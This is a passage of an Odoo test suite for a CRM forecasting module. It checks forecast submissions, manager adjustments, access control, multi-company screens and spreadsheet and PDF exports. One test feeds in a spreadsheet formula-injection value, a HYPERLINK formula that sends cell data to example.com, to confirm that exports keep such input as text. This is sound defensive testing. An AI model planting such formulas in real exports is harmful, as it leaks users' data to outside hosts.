# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import io
import json
import re
import zipfile
from datetime import date, datetime
from urllib.parse import parse_qs, urlparse

import openpyxl
from dateutil.relativedelta import relativedelta

from odoo import Command, api, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import Form, new_test_user, tagged
from odoo.tools.json import json_default

from ..const import TZ_PARAM
from ..reports.funnel_xlsx import build_workbook
from .common import FunnelCase, company_user


def download_env(env, user):
    """The environment of a spreadsheet's download, a plain http request:
    the user's own context (language, time zone) and no company chosen."""
    return api.Environment(env.cr, user.id, dict(env["res.users"].with_user(user).context_get()))


def download_params(action):
    """The parameters a download action's link carries."""
    return json.loads(parse_qs(urlparse(action["url"]).query)["params"][0])


def pdf_text(html):
    html = re.sub(r"<style.*?</style>", "", html, flags=re.S)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


@tagged("post_install", "-at_install")
class TestForecastSubmission(FunnelCase):
    """In March 2026 the rep has a deal in Commit (10,000), one in Best
    Case (5,000), one in Pipeline (2,000), all expected in March, and one
    won in March (3,000): Commit 13,000, Best Case 18,000 prefilled."""

    def setUp(self):
        super().setUp()
        self.make_deal(
            "Commit", self.s_proposal, 10000, date_deadline=date(2026, 3, 20)
        ).forecast_category = "commit"
        self.make_deal("Best", self.s_proposal, 5000, date_deadline=date(2026, 3, 25))
        self.make_deal("Pipe", self.s_new, 2000, date_deadline=date(2026, 3, 28))
        self.make_deal(
            "April", self.s_proposal, 7000, date_deadline=date(2026, 4, 2)
        ).forecast_category = "commit"
        won = self.make_deal("Won", self.s_won, 3000)
        self.make_deal(
            "Other rep",
            self.s_proposal,
            9000,
            date_deadline=date(2026, 3, 20),
            user_id=self.other_rep.id,
        )
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE crm_lead SET date_closed = %s WHERE id = %s", [datetime(2026, 3, 5, 12), won.id]
        )
        self.env.invalidate_all()
        self.Submission = self.env["crm.forecast.submission"]

    def rep_submits_in_march(self):
        """The rep's forecast of March 2026: Commit 12,000, Best Case 18,000."""
        return self.Submission.with_user(self.rep).create(
            {
                "team_id": self.team.id,
                "date_from": date(2026, 3, 1),
                "commit_amount": 12000,
                "best_case_amount": 18000,
            }
        )

    def test_prefilled_from_the_categories(self):
        figures = self.Submission._sff_prefill(
            self.rep.id, self.team.id, "month", date(2026, 3, 14)
        )
        self.assertEqual(
            figures, {"commit_amount": 13000.0, "best_case_amount": 18000.0, "won_amount": 3000.0}
        )
        # the whole team: the other rep's Best Case deal too
        team = self.Submission._sff_prefill(False, self.team.id, "month", date(2026, 3, 1))
        self.assertEqual((team["commit_amount"], team["best_case_amount"]), (13000.0, 27000.0))
        # the second quarter: April's Commit deal only
        quarter = self.Submission._sff_prefill(
            self.rep.id, self.team.id, "quarter", date(2026, 5, 10)
        )
        self.assertEqual((quarter["commit_amount"], quarter["best_case_amount"]), (7000.0, 7000.0))
        # the form of a rep prefills them
        form = Form(self.Submission.with_user(self.rep))
        form.team_id = self.team
        form.date_from = date(2026, 3, 1)
        self.assertEqual((form.commit_amount, form.best_case_amount), (13000.0, 18000.0))
        form.commit_amount = 12000
        form.note = "The Commit deal may slip"
        submission = form.save()
        self.assertEqual(
            (submission.user_id, submission.commit_amount, submission.date_to),
            (self.rep, 12000.0, date(2026, 4, 1)),
        )
        self.assertTrue(submission.submitted_on)

    def test_every_submission_is_kept(self):
        Submission = self.Submission.with_user(self.rep)
        first = Submission.create(
            {
                "team_id": self.team.id,
                "date_from": date(2026, 3, 17),
                "commit_amount": 10000,
                "best_case_amount": 15000,
            }
        )
        self.assertEqual(first.date_from, date(2026, 3, 1))
        with self.assertRaises(UserError):
            first.commit_amount = 11000
        second = Submission.create(
            {
                "team_id": self.team.id,
                "date_from": date(2026, 3, 1),
                "commit_amount": 11000,
                "best_case_amount": 15000,
            }
        )
        self.env.cr.execute(
            "UPDATE crm_forecast_submission SET submitted_on = %s WHERE id = %s",
            [datetime(2026, 3, 2), first.id],
        )
        self.env.cr.execute(
            "UPDATE crm_forecast_submission SET submitted_on = %s WHERE id = %s",
            [datetime(2026, 3, 9), second.id],
        )
        self.env.invalidate_all()
        self.assertEqual(Submission.search([("date_from", "=", date(2026, 3, 1))]), first | second)
        last = self.Submission._sff_last_submissions(self.team.id, date(2026, 3, 1), "month")
        self.assertEqual(last, {self.rep.id: second})
        before = self.Submission._sff_last_submissions(
            self.team.id, date(2026, 3, 1), "month", datetime(2026, 3, 5)
        )
        self.assertEqual(before, {self.rep.id: first})
        with self.assertRaises(ValidationError):
            Submission.create(
                {
                    "team_id": self.team.id,
                    "date_from": date(2026, 3, 1),
                    "commit_amount": 10000,
                    "best_case_amount": 9000,
                }
            )
        # nobody deletes one, a manager neither
        for user in (self.rep, self.manager):
            with self.assertRaises(AccessError):
                first.with_user(user).unlink()
        self.assertTrue(first.exists())
        # a quarter's, sent without its first day (an import, the API):
        # filed under the quarter of today (the rep a member of the team,
        # with no deal in it)
        self.team.member_ids |= self.rep
        quarter = Submission.with_context(tz="UTC").create(
            {
                "team_id": self.team.id,
                "period_type": "quarter",
                "commit_amount": 1,
                "best_case_amount": 1,
            }
        )
        today = fields.Date.context_today(quarter)
        self.assertEqual(
            (quarter.date_from.year, quarter.date_from.month, quarter.date_from.day),
            (today.year, (today.month - 1) // 3 * 3 + 1, 1),
        )

    def test_reps_submit_their_own_and_read_their_own(self):
        with self.assertRaises(AccessError):
            self.Submission.with_user(self.rep).create(
                {
                    "team_id": self.team.id,
                    "user_id": self.other_rep.id,
                    "date_from": date(2026, 3, 1),
                    "commit_amount": 1,
                    "best_case_amount": 1,
                }
            )
        other = self.Submission.with_user(self.other_rep).create(
            {
                "team_id": self.team.id,
                "date_from": date(2026, 3, 1),
                "commit_amount": 9000,
                "best_case_amount": 9000,
            }
        )
        team_line = self.Submission.with_user(self.manager).create(
            {
                "team_id": self.team.id,
                "user_id": False,
                "date_from": date(2026, 3, 1),
                "commit_amount": 30000,
                "best_case_amount": 40000,
            }
        )
        self.assertFalse(team_line.user_id)
        self.assertFalse(
            self.Submission.with_user(self.rep).search([("id", "in", (other | team_line).ids)])
        )
        self.assertEqual(
            self.Submission.with_user(self.manager).search([("id", "in", (other | team_line).ids)]),
            other | team_line,
        )

    def test_managers_adjust_beside_the_submission(self):
        submission = self.Submission.with_user(self.rep).create(
            {
                "team_id": self.team.id,
                "date_from": date(2026, 3, 1),
                "commit_amount": 13000,
                "best_case_amount": 18000,
            }
        )
        with self.assertRaises(AccessError):
            self.env["crm.forecast.adjustment"].with_user(self.rep).create(
                {
                    "submission_id": submission.id,
                    "commit_amount": 1,
                    "best_case_amount": 1,
                    "reason": "mine",
                }
            )
        submission.with_user(self.manager).write(
            {
                "adjustment_ids": [
                    (
                        0,
                        0,
                        {
                            "commit_amount": 10000,
                            "best_case_amount": 16000,
                            "reason": "The Commit deal's customer froze its budget",
                        },
                    )
                ]
            }
        )
        self.assertEqual(
            (submission.commit_amount, submission.best_case_amount), (13000.0, 18000.0)
        )
        self.assertEqual(
            (submission.adjusted_commit_amount, submission.adjusted_best_case_amount),
            (10000.0, 16000.0),
        )
        self.assertEqual(submission.adjustment_ids.user_id, self.manager)
        # the rep reads the adjustment of own submission
        self.assertEqual(
            submission.with_user(self.rep).adjustment_ids.reason,
            "The Commit deal's customer froze its budget",
        )
        with self.assertRaises(ValidationError):
            submission.with_user(self.manager).write(
                {
                    "adjustment_ids": [
                        (
                            0,
                            0,
                            {"commit_amount": 10000, "best_case_amount": 5000, "reason": "wrong"},
                        )
                    ]
                }
            )
        # an adjustment stays as its manager made it: another manager adds
        # one of their own, under their name and now, and neither rewrites
        # nor deletes the first
        adjustment = submission.adjustment_ids
        other_manager = new_test_user(
            self.env, "sff_second_manager", groups="sales_team.group_sale_manager"
        )
        for command in (
            Command.update(adjustment.id, {"commit_amount": 5, "best_case_amount": 5}),
            Command.delete(adjustment.id),
            Command.unlink(adjustment.id),
            Command.clear(),
        ):
            with self.assertRaises(UserError):
                submission.with_user(other_manager).write({"adjustment_ids": [command]})
        with self.assertRaises(AccessError):
            adjustment.with_user(other_manager).write({"commit_amount": 5})
        with self.assertRaises(AccessError):
            adjustment.with_user(other_manager).unlink()
        second = (
            self.env["crm.forecast.adjustment"]
            .with_user(other_manager)
            .create(
                {
                    "submission_id": submission.id,
                    "commit_amount": 9000,
                    "best_case_amount": 9000,
                    "reason": "Second look",
                    "user_id": self.manager.id,
                    "date": datetime(2020, 1, 1),
                }
            )
        )
        self.assertEqual(second.user_id, other_manager)
        self.assertGreater(second.date, datetime(2020, 1, 1))
        self.assertEqual(
            [(a.commit_amount, a.user_id) for a in submission.adjustment_ids.sorted("id")],
            [(10000.0, self.manager), (9000.0, other_manager)],
        )
        # the form offers new lines only
        with Form(submission.with_user(other_manager)) as form:
            with form.adjustment_ids.edit(0) as line, self.assertRaises(AssertionError):
                line.commit_amount = 1
        # a salesperson who submitted stays: archived, not deleted
        with self.assertRaisesRegex(UserError, "archive the users instead"):
            self.rep.unlink()

    def test_screen_of_a_team_shared_by_companies_and_time_zones(self):
        """A team without a company, deals of two companies in two
        currencies: the screen counts the current company's, in its
        currency (as the quota does). A deal won at 01:30 on April 1 in
        Paris (23:30 UTC on March 31) is April's on the screen and in the
        prefill when the funnel totals' time zone (the CRM settings) is
        Paris, whatever the reader's own."""
        eur = self.env.ref("base.EUR")
        eur.active = True
        other = self.env["res.company"].create({"name": "Euro Co", "currency_id": eur.id})
        self.assertFalse(self.team.company_id)
        self.assertNotEqual(self.company.currency_id, eur)
        self.manager.company_ids |= other
        self.make_deal(
            "Euro",
            self.s_proposal,
            1000,
            date_deadline=date(2026, 3, 20),
            company_id=other.id,
            user_id=False,
        )
        Submission = self.Submission.with_user(self.manager)

        def screen(company, **params):
            return Submission.with_context(
                allowed_company_ids=(company | (self.company | other - company)).ids
            ).get_forecast_screen(dict({"team_id": self.team.id, "period_type": "month"}, **params))

        # March: Commit 10,000, Best 5,000, Pipe 2,000, the other rep's 9,000
        home = screen(self.company, date_from="2026-03-01")
        self.assertEqual(home["team_line"]["pipeline"], 26000.0)
        self.assertEqual(home["currency_id"], self.company.currency_id.id)
        euro = screen(other, date_from="2026-03-01")
        self.assertEqual(euro["team_line"]["pipeline"], 1000.0)
        self.assertEqual(euro["currency_id"], eur.id)
        # the team's own forecast, submitted in each company: each screen
        # shows its company's, and its exports its company's accuracy lines
        for company, amount in ((self.company, 30000), (other, 900)):
            Submission.with_context(allowed_company_ids=company.ids).create(
                {
                    "team_id": self.team.id,
                    "user_id": False,
                    "date_from": date(2026, 3, 1),
                    "commit_amount": amount,
                    "best_case_amount": amount,
                }
            )
        self.env.flush_all()
        self.env.cr.execute(
            """INSERT INTO crm_forecast_accuracy_report
                   (period_type, date_from, lead_days, method, scope, team_id, company_id,
                    forecast_amount, actual_amount)
               VALUES ('month', '2026-02-01', 0, 'commit', 'team', %s, %s, 100, 80)""",
            [self.team.id, other.id],
        )
        for company, amount, lines in ((self.company, 30000.0, 0), (other, 900.0, 1)):
            params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
            values = Submission.with_context(
                allowed_company_ids=(company | (self.company | other - company)).ids
            )._sff_export_values(params)
            self.assertEqual(values["team_line"]["submission"]["commit"], amount)
            self.assertEqual(len(values["accuracy"]), lines)
        # the won deal of the setup, closed at 23:30 UTC on March 31 instead
        won = self.env["crm.lead"].search([("name", "=", "Won"), ("team_id", "=", self.team.id)])
        self.env.cr.execute(
            "UPDATE crm_lead SET date_closed = %s WHERE id = %s",
            [datetime(2026, 3, 31, 23, 30), won.id],
        )
        self.env.invalidate_all()
        for tz, march, april in (("Europe/Paris", 0.0, 3000.0), ("UTC", 3000.0, 0.0)):
            self.env["ir.config_parameter"].set_param(TZ_PARAM, tz)
            # a reader elsewhere counts the same days
            Paris = Submission.with_context(tz="Asia/Tokyo")
            self.assertEqual(
                [
                    Paris.get_forecast_screen(
                        {"team_id": self.team.id, "period_type": "month", "date_from": day}
                    )["team_line"]["won"]
                    for day in ("2026-03-01", "2026-04-01")
                ],
                [march, april],
                tz,
            )
            self.assertEqual(
                Paris._sff_prefill(self.rep.id, self.team.id, "month", date(2026, 4, 1))[
                    "won_amount"
                ],
                april,
                tz,
            )

    def test_forecast_screen(self):
        """March: the rep won 3,000, has 10,000 in Commit, 5,000 in Best
        Case, 2,000 in Pipeline: Commit forecast 13,000, Best Case 18,000,
        open pipeline 17,000; quota 20,000 (target plan), gap 17,000,
        coverage 1.0. The other rep: 9,000 in Best Case, no quota, not
        submitted (marked)."""
        # March 2026 under way: the screen marks whoever has not submitted
        # (a period over marks nobody)
        self.clock_at(datetime(2026, 3, 20, 9))
        Period = self.env["crm.target.plan.period"]
        plan = self.env["crm.target.plan"].create(
            {
                "name": "March plan",
                "team_id": self.team.id,
                "user_id": self.rep.id,
                "date_from": date(2026, 1, 1),
                "date_to": date(2026, 12, 31),
                "revenue_target": 240000,
                "average_deal_value": 10000,
                "sales_cycle_days": 0,
            }
        )
        march = Period.search(
            [
                ("plan_id", "=", plan.id),
                ("period_type", "=", "month"),
                ("date_from", "=", date(2026, 3, 1)),
            ]
        )
        march.sudo().revenue_target = 20000
        self.rep_submits_in_march()
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-10"}
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        self.assertEqual((screen["date_from"], screen["date_to"]), ("2026-03-01", "2026-03-31"))
        lines = {line["user_id"]: line for line in screen["lines"]}
        rita = lines[self.rep.id]
        self.assertEqual(
            {
                key: rita[key]
                for key in (
                    "quota",
                    "won",
                    "commit",
                    "best_case",
                    "pipeline",
                    "gap",
                    "coverage",
                    "late",
                )
            },
            {
                "quota": 20000.0,
                "won": 3000.0,
                "commit": 13000.0,
                "best_case": 18000.0,
                "pipeline": 17000.0,
                "gap": 17000.0,
                "coverage": 1.0,
                "late": False,
            },
        )
        self.assertEqual(rita["submission"]["commit"], 12000.0)
        otto = lines[self.other_rep.id]
        self.assertEqual(
            (otto["best_case"], otto["commit"], otto["quota"], otto["late"], otto["submission"]),
            (9000.0, 0.0, None, True, None),
        )
        self.assertEqual(screen["team_line"]["pipeline"], 26000.0)
        # the team's line counts its unassigned deals too
        self.make_deal(
            "Nobody's", self.s_proposal, 10000, date_deadline=date(2026, 3, 22), user_id=False
        ).forecast_category = "commit"
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        self.assertEqual(
            (screen["team_line"]["pipeline"], screen["team_line"]["commit"]), (36000.0, 23000.0)
        )
        self.assertEqual(
            {line["user_id"]: line["pipeline"] for line in screen["lines"]}[self.rep.id], 17000.0
        )
        # a rep reads own line only, without the team's
        own = self.Submission.with_user(self.rep).get_forecast_screen(params)
        self.assertEqual([line["user_id"] for line in own["lines"]], [self.rep.id])
        self.assertIsNone(own["team_line"])

    def test_screen_sends_no_adjustment_as_none(self):
        """A line with a submission a manager has not adjusted: its
        adjustment is None as the web client receives it (the screen sent
        an empty record set, which JSON-RPC writes as the text
        "crm.forecast.adjustment()", a value where there is none)."""
        self.clock_at(datetime(2026, 3, 20, 9))
        self.rep_submits_in_march()
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        sent = json.loads(json.dumps(screen, default=json_default))
        lines = {line["user_id"]: line for line in sent["lines"]}
        self.assertEqual(lines[self.rep.id]["submission"]["commit"], 12000.0)
        self.assertIsNone(lines[self.rep.id]["adjustment"])
        # nobody submitted for the other rep nor the team: no submission
        self.assertEqual(
            (lines[self.other_rep.id]["submission"], lines[self.other_rep.id]["adjustment"]),
            (None, None),
        )
        self.assertEqual(
            (sent["team_line"]["submission"], sent["team_line"]["adjustment"]), (None, None)
        )

    def test_waterfall_bars_open_the_deals_they_count(self):
        """Each bar of the Forecast screen's waterfall opens the Deal Flow
        rows of its deals: as many deals and the same amount. A rep counts
        own and unassigned deals, as everywhere: on March 1 the pipeline
        of March held the rep's 1,000 and an unassigned 2,000 (the other
        rep's 4,000 too, for the manager); then the rep's was won and the
        unassigned one raised by 500."""
        self.set_now(datetime(2026, 2, 20, 9))
        before = self.make_deal("Before", self.s_new, 1000, date_deadline=date(2026, 3, 20))
        nobodys = self.make_deal(
            "Nobody's", self.s_new, 2000, date_deadline=date(2026, 3, 21), user_id=False
        )
        self.make_deal(
            "Otto's", self.s_new, 4000, date_deadline=date(2026, 3, 22), user_id=self.other_rep.id
        )
        self.end_request()
        # in March: the rep's deal won, the unassigned one raised to 2,500
        self.set_now(datetime(2026, 3, 5, 9))
        before.stage_id = self.s_won
        nobodys.expected_revenue = 2500
        self.end_request()
        self.set_now(datetime(2026, 3, 10, 9))
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        for user, start, end in (
            (self.rep, (2, 3000.0), 2500.0),
            (self.manager, (3, 7000.0), 6500.0),
        ):
            Submission = self.Submission.with_user(user)
            bars = {
                bar["step"]: (bar["count"], bar["amount"])
                for bar in Submission.get_forecast_screen(params)["flow"]
            }
            self.assertEqual(bars["start"], start, user.name)
            self.assertEqual(
                (bars["increased"], bars["won"], bars["end"]),
                ((1, 500.0), (1, 1000.0), (1 if user == self.rep else 2, end)),
                user.name,
            )
            for step, figure in bars.items():
                action = Submission.action_forecast_flow_step(params, step)
                rows = self.env[action["res_model"]].with_user(user).search(action["domain"])
                self.assertEqual(
                    (sum(rows.mapped("deal_count")), round(sum(rows.mapped("amount")), 2)),
                    figure,
                    (user.name, step),
                )

    def test_forecast_line_opens_the_submissions_of_its_company(self):
        """A team shared by two companies: the rep submitted 1,000 for March
        in the first, then 5,000 in the second. The screen, in the first,
        shows 1,000; its line opens that company's submission only."""
        other = self.env["res.company"].create(
            {"name": "Second company", "currency_id": self.company.currency_id.id}
        )
        both = (self.company | other).ids
        self.manager.company_ids |= other
        self.rep.company_ids |= other
        self.team.company_id = False
        # a member of the team, whose deals are of the first company
        self.team.member_ids |= self.rep
        Submission = self.Submission.with_user(self.rep)
        for company, amount, day in ((self.company, 1000, 2), (other, 5000, 3)):
            self.set_now(datetime(2026, 3, day, 9))
            Submission.with_context(allowed_company_ids=[company.id, *both]).create(
                {
                    "team_id": self.team.id,
                    "company_id": company.id,
                    "date_from": date(2026, 3, 1),
                    "commit_amount": amount,
                    "best_case_amount": amount,
                }
            )
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        for user in (self.manager, self.rep):
            in_first = self.Submission.with_user(user).with_context(allowed_company_ids=both)
            screen = in_first.get_forecast_screen(params)
            [line] = [line for line in screen["lines"] if line["user_id"] == self.rep.id]
            self.assertEqual(line["submission"]["commit"], 1000.0, user.name)
            action = in_first.action_forecast_submissions(params, self.rep.id)
            listed = in_first.search(action["domain"])
            self.assertEqual(listed.mapped("commit_amount"), [1000.0], user.name)

    def test_forecast_pdf_of_another_companys_team_has_its_letterhead(self):
        """A manager working in the first company, the second one selected
        too, prints the Forecast of a team of the second: its figures and
        its letterhead are the second company's."""
        other = self.env["res.company"].create({"name": "Beta Letterhead"})
        manager = company_user(
            self.env,
            "letterhead_manager",
            "Letterhead Manager",
            "sales_team.group_sale_manager",
            self.company | other,
        )
        team = self.env["crm.team"].create({"name": "Team Beta", "company_id": other.id})
        layout = self.env.ref("web.external_layout_standard")
        (self.company | other).external_report_layout_id = layout
        Submission = self.Submission.with_user(manager).with_context(
            allowed_company_ids=(self.company | other).ids
        )
        self.assertEqual(
            Submission.get_forecast_screen({"team_id": team.id})["company_id"], other.id
        )
        action = Submission.action_forecast_export({"team_id": team.id}, "pdf")
        html = (
            self.env["ir.actions.report"]
            .with_user(manager)
            .with_context(allowed_company_ids=(self.company | other).ids)
            ._render_qweb_html(
                "sales_funnel_forecast.action_report_forecast_screen", [], data=action["data"]
            )[0]
            .decode()
        )
        text = pdf_text(html)
        self.assertIn("Beta Letterhead", text)
        self.assertNotIn(self.company.name, text)

    def test_late_submitters_by_the_setting(self):
        # March 2026 under way: the screen marks whoever has not submitted
        # (a period over marks nobody)
        self.clock_at(datetime(2026, 3, 20, 9))
        submission = self.rep_submits_in_march()
        self.env.cr.execute(
            "UPDATE crm_forecast_submission SET submitted_on = now() at time zone 'utc' - interval '5 days' WHERE id = %s",
            [submission.id],
        )
        self.env.invalidate_all()
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}

        def late():
            screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
            return {line["user_id"]: line["late"] for line in screen["lines"]}[self.rep.id]

        settings = self.env["res.config.settings"].create({"sff_submission_stale_days": 7})
        settings.execute()
        self.assertFalse(late())
        settings = self.env["res.config.settings"].create({"sff_submission_stale_days": 3})
        settings.execute()
        self.assertTrue(late())

    def test_reminder_at_0_days_marks_nobody(self):
        """At 0 days the reminder is off: a rep who submitted a minute ago
        and one who never did are both unmarked, and the screen says so;
        at 1 day the caption says "the last day"."""
        # March 2026 under way: the screen marks whoever has not submitted
        # (a period over marks nobody)
        self.clock_at(datetime(2026, 3, 20, 9))
        self.rep_submits_in_march()
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        self.env["res.config.settings"].create({"sff_submission_stale_days": 0}).execute()
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        self.assertEqual([line["late"] for line in screen["lines"]], [False] * len(screen["lines"]))
        self.assertGreater(len(screen["lines"]), 1)
        self.assertEqual(
            screen["stale_note"], "Nobody marked: the forecast submission reminder is off."
        )
        self.env["res.config.settings"].create({"sff_submission_stale_days": 1}).execute()
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        self.assertEqual(screen["stale_note"], "Marked: no forecast submitted in the last day.")
        late = {line["user_id"]: line["late"] for line in screen["lines"]}
        self.assertFalse(late[self.rep.id])
        self.assertEqual(sorted(late.values()), [False] + [True] * (len(late) - 1))
        self.env["res.config.settings"].create({"sff_submission_stale_days": 14}).execute()
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        self.assertEqual(screen["stale_note"], "Marked: no forecast submitted in the last 14 days.")

    def test_forecast_printed_and_exported(self):
        """The spreadsheet and the PDF carry the screen's figures: the rep's
        Commit 13,000 and Best Case 18,000, the deal flow's steps with a
        native stacked column chart (the waterfall), the accuracy sheet."""
        # March 2026 under way: the screen marks whoever has not submitted
        # (a period over marks nobody)
        self.clock_at(datetime(2026, 3, 20, 9))
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        Submission = self.Submission.with_user(self.manager)
        content, name = Submission._sff_forecast_xlsx(params)
        self.assertTrue(name.endswith(".xlsx"))
        book = openpyxl.load_workbook(io.BytesIO(content))
        self.assertEqual(
            book.sheetnames, ["Forecast by salesperson", "Deal flow", "Accuracy by period"]
        )
        rows = {
            row[0].value: [cell.value for cell in row]
            for row in book["Forecast by salesperson"].iter_rows(min_row=4)
        }
        self.assertEqual(rows[self.rep.name][2:5], [3000, 13000, 18000])
        # what its No Recent Forecast column marks, as the screen says it
        self.assertEqual(
            book["Forecast by salesperson"]["A2"].value,
            "Marked: no forecast submitted in the last 7 days.",
        )
        flow = book["Deal flow"]
        self.assertEqual(
            [flow.cell(row=row, column=1).value for row in (4, 12)],
            ["Pipeline at Start", "Pipeline at End"],
        )
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            chart = archive.read("xl/charts/chart1.xml").decode()
        self.assertIn('<c:grouping val="stacked"/>', chart)
        self.assertIn('<c:barDir val="col"/>', chart)
        action = Submission.action_forecast_export(params, "xlsx")
        self.assertIn("/sales_funnel_forecast/forecast.xlsx?", action["url"])
        action = Submission.action_forecast_export(params, "pdf")
        self.assertEqual(action["report_name"], "sales_funnel_forecast.report_forecast_screen")
        html = self.print_screen(params)
        self.assertIn("Forecast of Funnel Test Team", html)
        self.assertIn("13,000.00", html)
        self.assertIn("(no recent forecast)", html)
        with self.assertRaises(UserError):
            Submission.action_forecast_export(params, "csv")

    # ------------------------------------------------------------------
    # The exports say what the screen says
    # ------------------------------------------------------------------
    def accuracy_line(self, day, method, user=None, forecast=100000.0, actual=80000.0):
        self.env.cr.execute(
            """INSERT INTO crm_forecast_accuracy_report
                   (period_type, date_from, lead_days, method, scope, team_id, user_id,
                    company_id, forecast_amount, actual_amount, accuracy, optimism,
                    revenue_amount)
               VALUES ('month', %s, 0, %s, %s, %s, %s, %s, %s, %s, %s, %s, 0)""",
            [
                day,
                method,
                "rep" if user else "team",
                self.team.id,
                user.id if user else None,
                self.company.id,
                forecast,
                actual,
                100 * max(0.0, 1 - abs(actual - forecast) / actual),
                forecast / actual,
            ],
        )

    def test_spreadsheets_count_the_companies_of_the_screen(self):
        """A manager of two companies works in the second (in euros) on a
        team without a company: the screen counts that company's deal
        (1,000), and so does the spreadsheet, downloaded by a plain http
        request (no company chosen: it counted the default company's
        26,000). The funnel's spreadsheet, likewise, counts the companies
        the dashboard counted (its stage-weighted total)."""
        eur = self.env.ref("base.EUR")
        eur.active = True
        other = self.env["res.company"].create({"name": "Euro Co", "currency_id": eur.id})
        self.manager.company_ids |= other
        self.make_deal(
            "Euro",
            self.s_proposal,
            1000,
            date_deadline=date(2026, 3, 20),
            company_id=other.id,
            user_id=False,
        )
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        on_screen = self.Submission.with_user(self.manager).with_context(
            allowed_company_ids=[other.id, self.company.id]
        )
        screen = on_screen.get_forecast_screen(params)
        self.assertEqual(screen["team_line"]["pipeline"], 1000.0)
        sent = download_params(on_screen.action_forecast_export(params, "xlsx"))
        self.assertEqual(sent["company_ids"], [other.id, self.company.id])
        Downloaded = download_env(self.env, self.manager)["crm.forecast.submission"]
        content, _name = Downloaded._sff_forecast_xlsx(sent)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        team_row = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]][-1]
        self.assertEqual(team_row[0], "Funnel Test Team (team)")
        self.assertEqual(team_row[5], 1000)
        # a company the user does not belong to is not counted
        stranger = self.env["res.company"].create({"name": "Stranger Co"})
        content, _name = Downloaded._sff_forecast_xlsx(dict(sent, company_ids=[stranger.id]))
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        team_row = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]][-1]
        # the default company's March: 10,000 + 5,000 + 2,000 + 9,000
        self.assertEqual(team_row[5], 26000)
        with self.assertRaises(UserError):
            Downloaded._sff_forecast_xlsx(dict(sent, company_ids="1,2"))

        # the funnel: the dashboard in the first company only
        Dashboard = self.env["crm.funnel.dashboard"].with_user(self.manager)
        funnel = {"team_id": self.team.id, "period": "all"}
        in_first = Dashboard.with_context(allowed_company_ids=[self.company.id])
        shown = in_first.get_funnel_dashboard(funnel)["forecast"]["forecast"]
        sent = download_params(in_first.action_export(funnel, "xlsx"))
        self.assertEqual(sent["company_ids"], [self.company.id])
        content, _name = download_env(self.env, self.manager)["crm.funnel.dashboard"]._sff_xlsx(
            sent
        )
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[2]
        totals = [row for row in sheet.iter_rows(min_row=5, values_only=True) if row[0] == "Total"]
        months = len(in_first.get_funnel_dashboard(funnel)["forecast"]["months"])
        self.assertEqual(totals[0][2 + months], shown)
        # in both companies, the euro deal is not added to the dollars
        # (tests/test_currencies.py)
        both = Dashboard.with_context(allowed_company_ids=[self.company.id, other.id])
        self.assertEqual(both.get_funnel_dashboard(funnel)["forecast"]["forecast"], shown)

    def test_funnel_spreadsheet_keeps_typed_names_as_text(self):
        """A lost reason or a salesperson's name typed as a formula stays
        text in the funnel's spreadsheet, as in the forecast's."""
        reason = self.env["crm.lost.reason"].create(
            {"name": '=HYPERLINK("http://example.com/?leak="&B1,"Click")'}
        )
        self.make_deal("Lost one", self.s_proposal, 500).action_set_lost(lost_reason_id=reason.id)
        self.rep.name = "=1+1"
        Dashboard = self.env["crm.funnel.dashboard"].with_user(self.manager)
        data = Dashboard._sff_data({"team_id": self.team.id, "period": "all"})
        self.assertTrue(data["losses"]["by_reason"])
        book = openpyxl.load_workbook(io.BytesIO(build_workbook(data, Dashboard._sff_labels(data))))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        self.assertEqual([cell.coordinate for cell in cells if cell.data_type == "f"], [])
        self.assertIn(reason.name, [cell.value for cell in cells])

    def test_pdf_accuracy_prints_whole_periods(self):
        """Fourteen closed months of accuracy lines, three methods for the
        two salespeople and the team each (126 lines): the spreadsheet has
        them all; the PDF prints the newest twelve months whole (108 lines)
        and says that two older ones are in the spreadsheet."""
        months = [date(2025, 1, 1) + relativedelta(months=n) for n in range(14)]
        for day in months:
            for user in (self.rep, self.other_rep, None):
                for method in ("commit", "best_case", "stage_weighted"):
                    self.accuracy_line(day, method, user)
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        content, _name = self.Submission.with_user(self.manager)._sff_forecast_xlsx(params)
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Accuracy by period"]
        self.assertEqual(
            len([row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]]), 126
        )
        html = self.print_screen(params)
        table = html.split("Forecast accuracy at each period")[1].split("</table>")[0]
        self.assertEqual(table.split("<tbody>")[1].count("<tr"), 108)
        self.assertIn("Older periods (2): in the spreadsheet.", pdf_text(html))

    def test_pdfs_write_decimals_in_the_user_language(self):
        """In French, the PDFs write a coverage of 26,000 / 17,000 as
        "1,53x", accuracy 75 % as "75,0" and optimism 1.25 as "1,25", and
        the funnel's conversion rates with a comma, as the screens do."""
        self.env["res.lang"]._activate_lang("fr_FR")
        self.team.invoiced_target = 20000
